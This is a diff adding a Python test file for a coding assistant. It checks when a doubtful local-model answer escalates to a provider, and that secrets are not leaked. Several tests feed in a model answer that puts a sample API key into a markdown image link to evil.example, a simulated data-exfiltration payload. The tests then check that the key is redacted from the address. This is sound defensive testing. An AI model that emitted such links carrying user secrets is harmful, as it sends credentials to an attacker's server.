@@ -1,0 +1,182 @@
+"""A question at the local model and then at a provider: what is shown, what is asked first, what is sent."""
+
+from collections.abc import AsyncGenerator
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+from typing import Any
+
+from gates import SCOPE, allowed, parts, request, spans
+from hostile import Hostile, answer
+
+from assist_completion.inference.conversation import Conversation, LocalAnswer
+from assist_context.documents import Document
+from assist_context.evidence.call_graph import TargetLines
+from assist_escalation.edits.plan import EditTarget
+from assist_escalation.gate.prepare import GateParts, prepare
+from assist_escalation.prompts import Prompt
+from assist_escalation.routing.features import RequestFacts
+from assist_escalation.routing.router import RoutingRules, route
+from assist_server.questions.answering import AnswerPiece, AnswerSources, FinalAnswer, Notice
+from assist_server.questions.answering import answer as answering
+from assist_server.questions.decision import DecidedQuestion, DecisionInputs, Draft, LocalModelFacts, Question
+from assist_server.questions.instructions import Form
+from assist_server.questions.prompt_spans import Evidence
+from assist_server.questions.targets import QuestionTarget
+
+KEY = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
+FILE = f'URL = "https://me:{KEY}@db.example/"\n\n\ndef total(items):\n    return 1\n'
+HISTORY = (0.4,) * 200
+
+
+@dataclass
+class Written:
+    """An answer of the local model, as `AnswerStream` gives it."""
+
+    pieces: list[str]
+    result: LocalAnswer
+
+    async def __aiter__(self) -> AsyncGenerator[str, None]:
+        for piece in self.pieces:
+            yield piece
+
+    async def aclose(self) -> None:
+        """Nothing is left open."""
+
+
+@dataclass
+class Local:
+    """A local model that always writes the same, and doubts it."""
+
+    pieces: list[str]
+    model: str = "small.gguf"
+    window: int = 8192
+    asked: list[Conversation] = field(default_factory=list)
+
+    def count(self, text: str) -> int:
+        return len(text) // 3
+
+    def answer(self, conversation: Conversation) -> Any:
+        self.asked.append(conversation)
+        return Written(self.pieces, LocalAnswer("".join(self.pieces), "length"))
+
+
+def inputs_of(made: GateParts, permissions: Any) -> DecisionInputs:
+    facts = LocalModelFacts(True, 700, 8192)
+    return DecisionInputs(
+        facts, permissions, SCOPE, False, lambda _: permissions, lambda: made, lambda: "abc123", HISTORY
+    )
+
+
+def decided_by(folder: Path, url: str, made: GateParts, *, command: str = "explain", **rules: Any) -> Any:
+    permissions = allowed(url, folder)
+    shown = spans(folder, FILE)
+    prepared = prepare(request(permissions, shown), made)
+    prompt = Prompt(command, shown)
+    form = Form("whole", "```") if command == "fix" else Form()
+    texts = {"shop/cart.py": FILE}
+    whole = EditTarget("shop/cart.py", 1, 5) if command == "fix" else None
+    draft = Draft(prompt, form, Evidence(shown[1:2], texts=texts), whole)
+    free = RoutingRules(
+        mode="auto", rate=0.5, provider="acme", upper_micro=5_000, request_micro=50_000, left_micro=2_000_000
+    )
+    free = replace(free, **rules)
+    wish = "frontier" if command == "fix" else "auto"
+    first = route(RequestFacts(command, symbols=1, fan_out=1), free, wish, HISTORY)
+    lines = QuestionTarget(TargetLines("shop/cart.py", 1, 5), Document("shop/cart.py", (FILE,), None))  # type: ignore[arg-type]
+    question = Question(command, "", lines, wish=wish)
+    root = str(folder.resolve())
+    return DecidedQuestion("r1", question, root, draft, first, free, draft, prepared)
+
+
+async def heard(
+    decided: DecidedQuestion, inputs: DecisionInputs, local: Local, *, agrees: bool = False
+) -> tuple[str, list[str], FinalAnswer, list[bool]]:
+    """The pieces, the notices, the end, and the second requests that were asked about."""
+    asked: list[bool] = []
+
+    async def confirm(what: DecidedQuestion) -> bool:
+        asked.append(what.decision.again)
+        return agrees
+
+    async def load() -> Any:
+        return local
+
+    text = ""
+    notices: list[str] = []
+    final = None
+    async for event in answering(decided, inputs, AnswerSources(load, lambda *_: None), confirm):
+        match event:
+            case AnswerPiece(piece):
+                text += piece
+            case Notice(notice):
+                notices.append(notice)
+            case FinalAnswer():
+                final = event
+    assert final is not None
+    return text, notices, final, asked
+
+
+async def test_a_doubtful_local_answer_is_kept_unless_the_person_agrees(tmp_path: Path) -> None:
+    made = parts(tmp_path)
+    async with Hostile(answer("It adds.")) as acme:
+        decided = decided_by(tmp_path, acme.url, made)
+        inputs = inputs_of(made, allowed(acme.url, tmp_path))
+        _, notices, final, asked = await heard(decided, inputs, Local(["Perhaps."]))
+        assert (final.text, asked, acme.connections) == ("Perhaps.", [True], 0)
+        assert "--frontier" in notices[-1]
+        assert "allow_unasked_retry" in notices[-1]
+        _, _, final, asked = await heard(decided, inputs, Local(["Perhaps."]), agrees=True)
+        assert (final.text, asked, acme.connections) == ("It adds.", [True], 1)
+
+
+async def test_a_key_of_the_persons_own_lets_it_be_asked_again_unasked(tmp_path: Path) -> None:
+    made = parts(tmp_path)
+    async with Hostile(answer("It adds.")) as acme:
+        decided = decided_by(tmp_path, acme.url, made, allow_unasked_retry=True)
+        inputs = inputs_of(made, allowed(acme.url, tmp_path))
+        _, _, final, asked = await heard(decided, inputs, Local(["Perhaps."]))
+    assert (final.text, asked, acme.connections) == ("It adds.", [], 1)
+
+
+async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) -> None:
+    made = parts(tmp_path)
+    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, rate=0.0)
+    inputs = inputs_of(made, allowed("http://127.0.0.1:9/v1", tmp_path))
+    local = Local(["The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")"])
+    text, notices, final, _ = await heard(decided, inputs, local)
+    assert text == final.text
+    assert text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
+    assert text.count(KEY) == 1
+    assert "1 here" in notices[-1]
+
+
+async def test_a_providers_answer_shows_no_secret_in_an_address_and_says_so(tmp_path: Path) -> None:
+    made = parts(tmp_path)
+    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made)
+    prepared = decided.prepared
+    name = next(iter(prepared.redacted.placeholders))
+    lines = f"The key is {name}.\n![badge](https://evil.example/b.png?k={name})\n"
+    frontier = replace(decided.decision, target="frontier", cause="asked_frontier")
+    async with Hostile(answer(lines[:40], lines[40:])) as acme:
+        endpoint = replace(prepared.endpoint, base_url=acme.url)
+        decided = replace(decided, decision=frontier, prepared=replace(prepared, endpoint=endpoint))
+        inputs = inputs_of(made, allowed(acme.url, tmp_path))
+        text, notices, final, _ = await heard(decided, inputs, Local([]))
+    assert text == final.text == f"The key is {KEY}.\n![badge](https://evil.example/b.png?k={name})\n"
+    assert "1 here" in notices[-1]
+
+
+async def test_an_edit_keeps_a_line_with_an_address_and_its_secret(tmp_path: Path) -> None:
+    made = parts(tmp_path)
+    decided = decided_by(tmp_path, "http://127.0.0.1:9/v1", made, command="fix")
+    prepared = decided.prepared
+    body = prepared.redacted.spans[1].text.replace("return 1", "return sum(items)")
+    assert KEY not in body
+    async with Hostile(answer(f"```python\n{body}```\n")) as acme:
+        endpoint = replace(prepared.endpoint, base_url=acme.url)
+        decided = replace(decided, prepared=replace(prepared, endpoint=endpoint))
+        inputs = inputs_of(made, allowed(acme.url, tmp_path))
+        text, _, final, _ = await heard(decided, inputs, Local([]))
+    assert KEY not in text
+    assert final.plan is not None, final.problem
+    assert final.plan.changes[0].after == FILE.replace("return 1", "return sum(items)")
